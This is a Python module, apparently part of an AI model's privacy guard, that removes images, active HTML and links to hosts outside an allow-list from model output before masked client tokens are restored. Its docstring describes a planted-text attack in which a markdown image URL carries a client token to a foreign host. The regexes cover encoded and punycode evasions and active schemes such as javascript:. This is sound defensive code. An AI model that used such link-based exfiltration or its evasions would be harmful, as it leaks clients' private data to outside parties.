"""Links in outgoing text: an allow-list of hosts, and no token ever restored inside a URL.

A model (or a planted playbook passage, or a note someone else wrote) can write
``![chart](https://img.example.net/c.png?d=⟦CLIENT_1⟧)``; restoring the token there and letting a
channel render or unfurl the link sends the client's name to a foreign host without a click
(OWASP LLM02 / LLM05). So, on the masked text, before any token is restored:

- images (markdown, reference-style, HTML ``<img>``) and active HTML are removed, whatever host;
- a link (markdown, reference-style, autolink, bare URL or bare domain) to a host outside the
  allow-list, or with a scheme other than http(s)/mailto (``javascript:``, ``data:`` …), is
  replaced by ``[link removed]``;
- in a link that stays, every token becomes ``[redacted]``; a link that hides one (percent-
  encoded) or carries a personal value (``?q=Zhang%20Wei``, checked by ``has_pii`` on the
  decoded URL) is removed.

Each removal adds the flag ``guard:link_removed``. Hosts compare after IDNA decoding, so a
punycode look-alike (``xn--bnk-…``) is just another foreign host.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from urllib.parse import unquote, urlsplit

from assistant.privacy.tokens import TOKEN_RE

LINK_REMOVED = "[link removed]"
LINK_FLAG = "guard:link_removed"
REDACTED = "[redacted]"

# Label characters: ASCII, and the Latin/Greek/Cyrillic letters look-alike domains are made of
# (never CJK, which surrounds a URL in Chinese text).
_L = r"[A-Za-z0-9\u00c0-\u024f\u0370-\u03ff\u0400-\u04ff-]"
_HOST = rf"(?:{_L}+\.)+(?:[A-Za-z\u00c0-\u024f\u0370-\u03ff\u0400-\u04ff]{{2,24}}|xn--{_L}+)"
_URL_TAIL = r"[^\s<>\"'`)\]\u3000-\u303f\uff08\uff09\uff0c\u4e00-\u9fff]*"
_SCHEME_URL = re.compile(r"(?i)\b(?:[a-z][a-z0-9+.-]{1,15}):(?://)?" + _URL_TAIL)
_BARE_DOMAIN = re.compile(
    rf"(?<![@A-Za-z0-9_.:/-]){_HOST}(?::\d{{1,5}})?(?:[/?#]{_URL_TAIL})?(?![A-Za-z0-9_-])",
    re.IGNORECASE,
)
# Only well-known top-level domains make a bare "word.word" a link: "report.md" or "v1.2" in a
# playbook passage is not one. With a path or "www." any suffix counts.
_COMMON_TLDS = frozenset(
    {
        "com",
        "net",
        "org",
        "cn",
        "io",
        "co",
        "info",
        "biz",
        "me",
        "app",
        "dev",
        "xyz",
        "top",
        "site",
        "online",
        "link",
        "click",
        "hk",
        "mo",
        "tw",
        "sg",
        "uk",
        "us",
        "ru",
        "de",
        "jp",
        "kr",
        "fr",
        "nl",
        "eu",
        "tk",
        "ml",
        "ga",
        "cf",
        "gq",
        "cc",
        "tv",
        "ai",
        "ly",
        "to",
    }
)
_MD_IMAGE = re.compile(r"!\[[^\]\n]*\]\([^)\n]*\)|!\[[^\]\n]*\]\[[^\]\n]*\]")
_MD_LINK = re.compile(r"\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?(?:\s+\"[^\"\n]*\")?\s*\)")
_MD_REF_DEF = re.compile(r"(?m)^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*<?(\S+?)>?(?:[ \t]+.*)?$")
_ANGLE_LINK = re.compile(r"<((?:[a-z][a-z0-9+.-]{1,15}):[^>\s|]+)(?:\|([^>\n]*))?>", re.IGNORECASE)
_HTML_ACTIVE = re.compile(
    r"(?is)<(script|style|iframe|object|embed|svg|math|form|video|audio)\b.*?(?:</\1\s*>|$)"
    r"|<(?:img|image|source|link|meta|base|input|picture|track|frame)\b[^>]*>"
)
_HTML_ANCHOR = re.compile(r"(?is)<a\b[^>]*>(.*?)</a\s*>|<a\b[^>]*>")
_LINK_HINT = re.compile(r"[:<]|\]\(|\w\.\w")
_SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
# A token percent-encoded once or twice: ⟦ is E2 9F A6.
_ENCODED_TOKEN = re.compile(r"(?i)%(?:25)?E2%(?:25)?9F%(?:25)?A6")


@dataclass
class LinkGuard:
    """Neutralises links in masked text; ``allowed`` holds host names or ``*.suffix`` patterns."""

    allowed: Iterable[str] = ()
    has_pii: Callable[[str], bool] = lambda _text: False
    _exact: frozenset[str] = field(init=False)
    _suffixes: tuple[str, ...] = field(init=False)

    def __post_init__(self) -> None:
        hosts = [_idna_decode(h.lower().rstrip(".")) for h in self.allowed]
        self._exact = frozenset(h for h in hosts if not h.startswith("*."))
        self._suffixes = tuple(h[1:] for h in hosts if h.startswith("*."))

    def clean(self, text: str) -> tuple[str, list[str]]:
        """``text`` with images and foreign links removed and tokens out of the links kept."""
        if not _may_hold_link(text):
            return text, []
        removed = 0

        def drop(_match: re.Match[str] | None = None) -> str:
            nonlocal removed
            removed += 1
            return LINK_REMOVED

        text = _HTML_ACTIVE.sub(drop, text)
        text = _MD_IMAGE.sub(drop, text)
        text = _HTML_ANCHOR.sub(lambda m: (m.group(1) or "") + drop(), text)
        text = _MD_REF_DEF.sub(lambda m: self._keep_or_drop(m.group(0), m.group(1), drop), text)
        text = _MD_LINK.sub(lambda m: self._markdown_link(m, drop), text)
        text = _ANGLE_LINK.sub(lambda m: self._keep_or_drop(m.group(0), m.group(1), drop), text)
        text = _SCHEME_URL.sub(lambda m: self._bare(m, drop), text)
        text = _BARE_DOMAIN.sub(lambda m: self._bare_domain(m, drop), text)
        return text, [LINK_FLAG] if removed else []

    # -- one link each ------------------------------------------------------------------------
    def _markdown_link(self, m: re.Match[str], drop: Callable[[], str]) -> str:
        label, url = m.group(1), m.group(2)
        if not self.allows(url):
            return (label + " " if label.strip() else "") + drop()
        return f"[{label}]({_redact_tokens(url)})"

    def _keep_or_drop(self, whole: str, url: str, drop: Callable[[], str]) -> str:
        if not self.allows(url):
            return drop()
        return whole.replace(url, _redact_tokens(url))

    def _bare(self, m: re.Match[str], drop: Callable[[], str]) -> str:
        url = m.group(0)
        if _looks_like_time_or_label(url):
            return url
        return self._keep_or_drop(url, url, drop)

    def _bare_domain(self, m: re.Match[str], drop: Callable[[], str]) -> str:
        candidate = m.group(0)
        host = re.split(r"[:/?#]", candidate, maxsplit=1)[0].lower()
        is_link = (
            len(host) < len(candidate)
            or host.startswith("www.")
            or "xn--" in host
            or host.rsplit(".", 1)[-1] in _COMMON_TLDS
        )
        if not is_link:
            return candidate
        return _redact_tokens(candidate) if self.allows("http://" + candidate) else drop()

    # -- decisions ----------------------------------------------------------------------------
    def allows(self, url: str) -> bool:
        """True for an http(s)/mailto URL to an allowed host that hides no token or PII."""
        decoded = _decode(url)
        if _ENCODED_TOKEN.search(url) or (TOKEN_RE.search(decoded) and not TOKEN_RE.search(url)):
            return False  # a token the redaction below could not see
        try:
            parts = urlsplit(decoded.strip())
        except ValueError:
            return False
        scheme = parts.scheme.lower()
        if scheme not in _SAFE_SCHEMES:
            return False
        host = (parts.hostname or "") if scheme != "mailto" else parts.path.rpartition("@")[2]
        if not self._host_allowed(_idna_decode(host.lower().rstrip("."))):
            return False
        return not self.has_pii(TOKEN_RE.sub(" ", decoded.replace("+", " ")))

    def _host_allowed(self, host: str) -> bool:
        return bool(host) and (host in self._exact or any(host.endswith(s) for s in self._suffixes))


def _may_hold_link(text: str) -> bool:
    return bool(_LINK_HINT.search(text))


def _redact_tokens(url: str) -> str:
    return TOKEN_RE.sub(REDACTED, url)


def _decode(url: str) -> str:
    for _ in range(3):  # encoded twice is a common evasion; three rounds is plenty
        decoded = unquote(url)
        if decoded == url:
            break
        url = decoded
    return url


def _idna_decode(host: str) -> str:
    try:
        return host.encode("ascii").decode("idna") if "xn--" in host else host
    except UnicodeError:
        return host


# "Note:", "时间：10:30", "R2:" and similar are not URLs: a scheme-looking prefix counts only
# when something URL-like follows (//, @, or a mailto/data/javascript scheme).
_NOT_A_URL_SCHEMES = re.compile(r"(?i)^[a-z][a-z0-9+.-]*:(?!//)")
_ACTIVE_SCHEMES = ("javascript:", "data:", "vbscript:", "mailto:", "file:", "blob:")


def _looks_like_time_or_label(url: str) -> bool:
    lowered = url.lower()
    if lowered.startswith(_ACTIVE_SCHEMES):
        return False
    return bool(_NOT_A_URL_SCHEMES.match(url))
